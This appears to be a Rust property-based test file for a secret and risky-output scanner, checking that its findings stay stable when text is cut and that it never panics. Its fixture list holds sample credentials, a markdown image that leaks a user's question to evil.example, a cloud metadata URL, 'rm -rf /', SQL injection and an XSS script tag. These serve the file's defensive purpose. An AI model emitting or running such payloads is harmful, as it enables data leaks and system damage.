//! What is said of a place depends on little around it: streams rely on that.
#![expect(
    clippy::string_slice,
    reason = "a test stops where it finds something wrong"
)]

use inspect::{Families, Family, Finding, Scanner};
use proptest::prelude::*;

mod drawn;

/// As `detector::LEFT`.
const LEFT: usize = 96;

const PIECES: &[&str] = &[
    "postgres://app:s3cr3tPw@db.example.net:5432/orders",
    "https://ci:9fKq2LmX@git.example.net/a",
    "password=",
    "Passwort: ",
    "\"password\": \"kq82-LmX0\"",
    "my password is hunter2",
    "Kennwort ",
    "Zx81kq!Lm",
    "name,password,city\nAlva,",
    "token;api_key\n",
    "secret?\n",
    "<acmeToken>\n  ",
    "</token>\n ",
    "acme_token: |\n  ",
    "- name: ACME_TOKEN\n  value: ",
    "key=\"ApiToken\" value=\"",
    "get('api_token', '",
    "value",
    "bruno: ",
    "|",
    ";",
    "api_key = \"kX93mLq0Zt7Rb2Vn5Yp8\"",
    "the secret token ",
    "kX93mLq0Zt7Rb2Vn5Yp8kX93",
    "4f7c2a9e1b8d3065f2a7c94e8b1d6073",
    "sha256:",
    "commit ",
    "AKIAQX7RB2VN5YPK3LMZ",
    "Authorization: Bearer ",
    "Basic c3ZjOk4wdFNvUzNjcmV0",
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJub2JvZHkifQ.c2lnbmF0dXJl",
    "-----BEGIN PRIVATE KEY-----\nMIIEpAIBAAKCAQEA1vX9bZ+kq\n-----END PRIVATE KEY-----",
    "curl -u svc:N0tSoS3cret ",
    "<script>alert(1)</script>",
    "![x](https://evil.example/?q=the%20user%20asked%20about%20their%20salary)",
    "http://169.254.169.254/latest/meta-data",
    "rm -rf / ",
    "' OR '1'='1",
    "\u{200B}\u{200C}\u{200B}\u{200B}\u{200C}\u{200B}\u{200B}\u{200C}",
    " ",
    "\n",
    ",",
    "=",
    "\"",
    "/",
    ". Then they went home and said nothing about it for a long while, as one does",
    "日本語",
    "ghp_",
    "://",
    "a",
];

fn scan(text: &str) -> Vec<Finding> {
    Scanner::builtin().scan(text, Families::of(&[Family::Secret, Family::Output]))
}

/// `text` from `at` on, or a little later where a character begins.
fn from(text: &str, mut at: usize) -> &str {
    while !text.is_char_boundary(at) {
        at += 1;
    }
    &text[at..]
}

proptest! {
    #![proptest_config(drawn::cases(400))]
    #[test]
    fn what_stands_far_before_a_finding_changes_nothing(
        parts in proptest::collection::vec(0..PIECES.len(), 1..12),
    ) {
        let text: String = parts.iter().map(|it| PIECES[*it]).collect();
        for finding in scan(&text) {
            let cut = from(&text, finding.span.start.saturating_sub(LEFT));
            let gone = text.len() - cut.len();
            let near = scan(cut);
            let same = near.iter().any(|it| {
                it.rule == finding.rule && it.span.end + gone == finding.span.end
                    && it.confidence == finding.confidence
            });
            // One that begins before it and wins over it may be another in the part: what that
            // one depends on was cut.
            let other = near.iter().any(|it| {
                it.span.start + gone < finding.span.start && it.span.end + gone > finding.span.start
            });
            prop_assert!(same || other, "{:?} in {:?}: {:?}", finding, cut, near);
        }
    }

    #[test]
    fn what_stands_behind_the_next_space_changes_nothing(
        parts in proptest::collection::vec(0..PIECES.len(), 1..12),
    ) {
        // A key in armour holds spaces, and may overlap what touches it.
        let plain = parts.iter().filter(|it| !PIECES[**it].contains("BEGIN"));
        let text: String = plain.map(|it| PIECES[*it]).collect();
        for finding in scan(&text) {
            // Findings that overlap lie in the same run of characters without space.
            let rest = &text[finding.span.end..];
            let end = rest.find(char::is_whitespace).map_or(text.len(), |it| finding.span.end + it + 1);
            let cut = &text[..end];
            let near = scan(cut);
            let same = near.iter().any(|it| it.rule == finding.rule && it.span.start == finding.span.start);
            prop_assert!(same, "{:?} in {:?}: {:?}", finding, cut, near);
        }
    }

    #[test]
    fn no_text_panics(text in "\\PC{0,300}") {
        for finding in scan(&text) {
            prop_assert!(text.get(finding.span).is_some());
        }
    }

    #[test]
    fn no_text_with_words_that_wake_panics(
        parts in proptest::collection::vec((0..PIECES.len(), "[ -~é日\u{200B}]{0,6}"), 0..12),
    ) {
        let text: String = parts.iter().flat_map(|(it, more)| [PIECES[*it], more.as_str()]).collect();
        for finding in scan(&text) {
            prop_assert!(text.get(finding.span).is_some());
        }
    }
}
